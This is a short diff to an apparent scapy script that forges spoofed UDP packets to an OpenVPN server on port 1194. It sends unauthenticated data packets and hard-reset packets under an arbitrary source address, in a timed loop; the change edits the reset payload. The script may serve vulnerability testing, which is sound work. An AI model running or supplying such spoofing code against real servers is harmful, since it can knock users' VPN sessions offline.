@@ -96,7 +96,7 @@ from scapy.all import IP, UDP, Raw, conf
 conf.verb = 0
 src, dst, sport, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
 forged = [bytes([9 << 3, 0, 0, 0]) + bytes(60),      # data for peer-id 0, not authentic
-          bytes([7 << 3]) + bytes(13)]               # a hard reset: a new session from its address
+          bytes([7 << 3]) + bytes(range(1, 9)) + bytes(5)]   # a hard reset: a new session from its address
 pkts = [IP(src=src, dst=dst) / UDP(sport=sport, dport=1194) / Raw(p) for p in forged]
 s = conf.L3socket()
 end, n = time.monotonic() + seconds, 0
